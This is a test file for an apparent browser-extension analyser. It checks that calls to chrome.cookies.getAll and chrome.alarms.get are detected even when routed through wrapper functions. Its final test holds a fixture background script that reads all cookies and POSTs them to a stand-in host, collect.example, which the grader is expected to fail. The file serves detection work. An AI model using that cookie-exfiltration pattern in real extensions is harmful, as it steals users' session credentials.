import { beforeAll, describe, expect, it } from 'vitest';
import { graded } from '../../../testing/graded.ts';
import { loadScriptParts } from '../../../testing/loadScriptParts.ts';
import { parseScript } from '../parse.ts';
import { calledPaths } from '../query.ts';

const called = (text: string): string[] => [...calledPaths(parseScript(text))];

beforeAll(loadScriptParts);

const TWO = ['chrome.cookies.getAll', 'chrome.alarms.get'];
const BY_PARTS = "call(chrome.cookies, 'getAll', {}); call(chrome.alarms, 'get', 'x');";
const BY_NAMES = "call('cookies', 'getAll', {}); call('alarms', 'get', 'x');";
const BY_FUNCTION = "call(chrome.cookies.getAll, {}); call(chrome.alarms.get, 'x');";

describe('calls by way of a function that is told what to call', () => {
  it.each([
    ['const call = (of, name, ...args) => of[name](...args);', BY_PARTS],
    ['const call = async (of, name, ...args) => { return await of[name].apply(of, args); };', BY_PARTS],
    ['const call = (of, name, ...args) => Reflect.apply(Reflect.get(of, name), of, args);', BY_PARTS],
    ['const call = (of, name, ...args) => { console.debug(name, args); return of[name](...args); };', BY_PARTS],
    [
      'const call = (of, name, ...args) => new Promise((done, fail) => of[name](...args, (answer) => { const fault = chrome.runtime.lastError; fault ? fail(fault) : done(answer); }));',
      BY_PARTS,
    ],
    ['const call = (space, name, ...args) => new Promise((done) => chrome[space][name](...args, done));', BY_NAMES],
    [
      'function call(space, name, arg) { return new Promise(function (done) { self.chrome[space][name](arg, done); }); }',
      BY_NAMES,
    ],
    [
      "const call = (path, ...args) => new Promise((done) => { const [space, name] = path.split('.'); chrome[space][name](...args, done); });",
      "call('cookies.getAll', {}); call('alarms.get', 'x');",
    ],
    ['const call = (run, ...args) => new Promise((done) => run(...args, done));', BY_FUNCTION],
    [
      'const call = (run) => (...args) => new Promise((done) => run(...args, done));',
      'call(chrome.cookies.getAll)({}); call(chrome.alarms.get)();',
    ],
    [
      'const tools = { call(of, name, ...args) { return new Promise((done) => of[name](...args, done)); } };',
      BY_PARTS.replaceAll('call(', 'tools.call('),
    ],
    [
      'class Tools { static call = (run, ...args) => new Promise((done) => run(...args, done)); }',
      BY_FUNCTION.replaceAll('call(', 'Tools.call('),
    ],
    ['function call(run, arg, then) { run(arg, function (answer) { then(answer); }); }', BY_FUNCTION],
  ])('%s', (wrapper, calls) => {
    expect(called(`${wrapper} ${calls}`)).toEqual(expect.arrayContaining(TWO));
  });

  it.each([
    ['keeps what it is handed', 'const call = (run, ...args) => { kept.push(args); return run(...args); };'],
    ['makes something else of the answer', 'const call = async (run, ...args) => show(await run(...args));'],
    [
      'does more with the answer',
      'const call = (run, ...args) => new Promise((done) => run(...args, (answer) => { show(answer); done(1); }));',
    ],
  ])('a function that %s stays what it is', (_, wrapper) => {
    expect(called(`${wrapper} ${BY_FUNCTION}`)).not.toEqual(expect.arrayContaining(TWO));
  });

  it('what is no part of the platform is not put in', () => {
    expect(
      called("const call = (of, name) => of[name](); call(own, 'getAll'); call(chrome.cookies, 'getAll');"),
    ).toContain('chrome.cookies.getAll');
    expect(called("const call = (of, name) => of[name](); call(own, 'getAll');")).toEqual([]);
  });
});

it('each call gives what it is told, and nothing of another', async () => {
  const call = 'const call = (of, name, ...args) => new Promise((done) => of[name](...args, done));';
  const background = (sent: string): string =>
    `${call} (async () => { const jar = await call(chrome.cookies, 'getAll', {}); const alarm = await call(chrome.alarms, 'get', 'x'); show(jar.length); fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(${sent}) }); })();`;
  expect(await graded({ background: background('jar') })).toBe('F');
  expect(await graded({ background: background('alarm') })).toMatch(/^A/);
});
